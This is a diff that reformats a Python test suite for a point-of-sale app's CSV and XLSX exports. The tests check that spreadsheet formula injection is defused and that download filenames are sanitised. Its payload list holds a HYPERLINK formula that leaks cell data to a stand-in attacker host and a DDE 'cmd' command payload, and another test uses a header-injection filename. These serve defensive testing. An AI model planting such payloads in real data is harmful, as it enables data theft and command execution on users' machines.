@@ -2,6 +2,7 @@
 both roles' URL maps is opened as a CSV and as an XLSX: whatever comes back as a download must hold no cell a
 spreadsheet would run (CSV: a leading apostrophe; XLSX: text cells), and the names must still read as typed.
 The catalog's CSV round trip keeps a name that starts with a formula character."""
+
 import csv
 import io
 import uuid
@@ -36,8 +37,14 @@ from pos.models import (
 from tests.conftest import make_producer, make_product
 from tests.test_central_reports import TODAY, _ingest, _sale
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-            "\tTab=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTab=1+1",
+    "\r=1+1",
+]
 DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -75,11 +82,19 @@ def _check_download(response, where: str) -> bool:
 def _row_ids() -> dict:
     def newest(column):
         return [_db.session.scalar(select(func.max(column)))]
+
     return {
-        "product_id": newest(Product.id), "producer_id": newest(Producer.id), "transfer_id": newest(Transfer.id),
-        "settlement_id": newest(ConsignmentSettlement.id), "count_id": newest(StockCount.id),
-        "receipt_id": newest(GoodsReceipt.id), "shift_id": newest(Shift.id), "sale_uuid": newest(Sale.uuid),
-        "number": newest(Sale.number), "lookup_code": newest(Sale.lookup_code), "lot": newest(Lot.code),
+        "product_id": newest(Product.id),
+        "producer_id": newest(Producer.id),
+        "transfer_id": newest(Transfer.id),
+        "settlement_id": newest(ConsignmentSettlement.id),
+        "count_id": newest(StockCount.id),
+        "receipt_id": newest(GoodsReceipt.id),
+        "shift_id": newest(Shift.id),
+        "sale_uuid": newest(Sale.uuid),
+        "number": newest(Sale.number),
+        "lookup_code": newest(Sale.lookup_code),
+        "lot": newest(Lot.code),
         "code": [(_db.session.scalar(select(func.max(Product.gtin))) or "1").rjust(14, "0")],
         "filename": ["x.png"],
     }
@@ -101,8 +116,13 @@ def _walk_downloads(app, client) -> dict[str, bool]:
         for values in combos:
             with app.test_request_context():
                 path = app.url_for(rule.endpoint, **values)
-            for query in ("", "?format=csv", "?format=xlsx", "?format=csv&preset=this_year",
-                          "?format=xlsx&preset=this_year"):
+            for query in (
+                "",
+                "?format=csv",
+                "?format=xlsx",
+                "?format=csv&preset=this_year",
+                "?format=xlsx&preset=this_year",
+            ):
                 response = client.get(path + query)
                 assert response.status_code < 500, path + query
                 if response.mimetype == "text/csv" or response.mimetype.endswith("spreadsheetml.sheet"):
@@ -119,30 +139,66 @@ def attacked_showroom(app, users, db):
     manager, cashier = users["manager"], users["cashier"]
     open_shift(cashier, 500_000)
     producers = [make_producer(name=payload) for payload in PAYLOADS[:4]]
-    products = [make_product(producer, sku=f"ATK-{n}", name_vi=payload, price=10_000, reorder_point=50)
-                for n, (producer, payload) in enumerate(zip(producers * 2, PAYLOADS))]
+    products = [
+        make_product(producer, sku=f"ATK-{n}", name_vi=payload, price=10_000, reorder_point=50)
+        for n, (producer, payload) in enumerate(zip(producers * 2, PAYLOADS))
+    ]
     for n, product in enumerate(products):
-        receipt = create_receipt(product.producer_id, [
-            {"sku": product.sku, "lot_code": f"L{n}", "quantity": "20", "unit_cost": "0" if n == 0 else "4000",
-             "ownership": "consignment" if n == 0 else "purchased", "commission_rate": "20",
-             "expiry_date": (local_today() + timedelta(days=5)).isoformat()}], manager)
+        receipt = create_receipt(
+            product.producer_id,
+            [
+                {
+                    "sku": product.sku,
+                    "lot_code": f"L{n}",
+                    "quantity": "20",
+                    "unit_cost": "0" if n == 0 else "4000",
+                    "ownership": "consignment" if n == 0 else "purchased",
+                    "commission_rate": "20",
+                    "expiry_date": (local_today() + timedelta(days=5)).isoformat(),
+                }
+            ],
+            manager,
+        )
         post_receipt(receipt.id, manager)
-        record_sale({"uuid": str(uuid.uuid4()), "lines": [{"product_id": product.id, "quantity": 1}],
-                     "payments": [{"method": "cash", "amount": 10_000}]}, cashier)
+        record_sale(
+            {
+                "uuid": str(uuid.uuid4()),
+                "lines": [{"product_id": product.id, "quantity": 1}],
+                "payments": [{"method": "cash", "amount": 10_000}],
+            },
+            cashier,
+        )
     settle(products[0].producer_id, local_today().isoformat(), local_today().isoformat(), manager)
-    record_sale({"uuid": str(uuid.uuid4()), "lines": [{"product_id": products[0].id, "quantity": 1}],
-                 "payments": [{"method": "cash", "amount": 10_000}]}, cashier)  # not settled yet: on the statement
+    record_sale(
+        {
+            "uuid": str(uuid.uuid4()),
+            "lines": [{"product_id": products[0].id, "quantity": 1}],
+            "payments": [{"method": "cash", "amount": 10_000}],
+        },
+        cashier,
+    )  # not settled yet: on the statement
     open_count(manager)
     create_transfer_out("HK", [{"sku": "ATK-1", "quantity": "2"}], manager)
-    create_transfer_in("HK", "@SUM(A1)", [{"sku": "ATK-2", "lot_code": "T1", "quantity": "1", "unit_cost": "4000"}],
-                       manager)
+    create_transfer_in(
+        "HK", "@SUM(A1)", [{"sku": "ATK-2", "lot_code": "T1", "quantity": "1", "unit_cost": "4000"}], manager
+    )
     return products
 
 
-SHOWROOM_EXPORTS = {"catalog.export csv", "inventory.stock csv", "inventory.expiring csv", "inventory.low_stock_page csv",
-                    "inventory.count_sheet csv", "inventory.transfers csv", "inventory.transfer_detail csv",
-                    "inventory.consignment csv", "inventory.consignment_settlements csv",
-                    "inventory.settlement_detail csv", "inventory.valuation csv", "reports.showroom_day csv"}
+SHOWROOM_EXPORTS = {
+    "catalog.export csv",
+    "inventory.stock csv",
+    "inventory.expiring csv",
+    "inventory.low_stock_page csv",
+    "inventory.count_sheet csv",
+    "inventory.transfers csv",
+    "inventory.transfer_detail csv",
+    "inventory.consignment csv",
+    "inventory.consignment_settlements csv",
+    "inventory.settlement_detail csv",
+    "inventory.valuation csv",
+    "reports.showroom_day csv",
+}
 
 
 def test_no_showroom_download_carries_a_formula(app, admin_client, attacked_showroom):
@@ -156,6 +212,7 @@ def attacked_central(tmp_path):
     from pos.auth.service import create_user
     from pos.central.registry import add_showroom
     from tests.conftest import PASSWORD, login, make_app
+
     app = make_app(f"sqlite:///{tmp_path / 'central.sqlite3'}", POS_ROLE="central")
     with app.app_context():
         _db.create_all()
@@ -173,8 +230,11 @@ def attacked_central(tmp_path):
         _db.session.remove()
 
 
-CENTRAL_EXPORTS = {f"{endpoint} {kind}" for kind in ("csv", "xlsx") for endpoint in
-                   ("central.report_overview", "central.report_breakdown", "central.report_product")} | {"catalog.export csv"}
+CENTRAL_EXPORTS = {
+    f"{endpoint} {kind}"
+    for kind in ("csv", "xlsx")
+    for endpoint in ("central.report_overview", "central.report_breakdown", "central.report_product")
+} | {"catalog.export csv"}
 
 
 def test_no_central_download_carries_a_formula(attacked_central):
@@ -183,8 +243,11 @@ def test_no_central_download_carries_a_formula(attacked_central):
     assert set(found) >= CENTRAL_EXPORTS
     # the overview's and a product's exports are figures per day: no names in them to defuse
     assert sorted(endpoint for endpoint, held in found.items() if not held) == [
-        "central.report_overview csv", "central.report_overview xlsx", "central.report_product csv",
-        "central.report_product xlsx"]
+        "central.report_overview csv",
+        "central.report_overview xlsx",
+        "central.report_product csv",
+        "central.report_product xlsx",
+    ]
 
 
 def test_an_xlsx_keeps_the_text_and_numbers_as_they_are(attacked_central):
@@ -195,12 +258,28 @@ def test_an_xlsx_keeps_the_text_and_numbers_as_they_are(attacked_central):
     assert by_value[35_000].data_type == "n"
 
 
-@pytest.mark.parametrize("value, guarded", [
-    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("'=x", "''=x"), ("-Trà", "'-Trà"),
-    ("-5000", "-5000"), ("+84", "+84"), ("-1.5", "-1.5"), (-5000, -5000), ("Chè", "Chè"), ("'quoted", "'quoted"),
-    ("", ""), (None, None),
-])
+@pytest.mark.parametrize(
+    "value, guarded",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("'=x", "''=x"),
+        ("-Trà", "'-Trà"),
+        ("-5000", "-5000"),
+        ("+84", "+84"),
+        ("-1.5", "-1.5"),
+        (-5000, -5000),
+        ("Chè", "Chè"),
+        ("'quoted", "'quoted"),
+        ("", ""),
+        (None, None),
+    ],
+)
 def test_a_cell_is_guarded_only_when_a_spreadsheet_would_run_it(value, guarded):
     assert guard_cell(value) == guarded
     if isinstance(value, str):
@@ -222,8 +301,8 @@ def test_the_catalog_round_trip_keeps_names_that_start_like_a_formula(app, db):
 
 def test_a_download_is_named_from_safe_characters_only(app):
     from pos.core.exports import export
+
     with app.test_request_context():
         response = export([["Chè", 1]], ["name", "units"], 'product-A"; filename=evil.exe\r\nX: y', "xlsx")
-    assert response.headers["Content-Disposition"] == \
-        "attachment; filename=product-A___filename_evil.exe__X__y.xlsx"
+    assert response.headers["Content-Disposition"] == "attachment; filename=product-A___filename_evil.exe__X__y.xlsx"
     assert load_workbook(io.BytesIO(response.data)).active["A2"].value == "Chè"
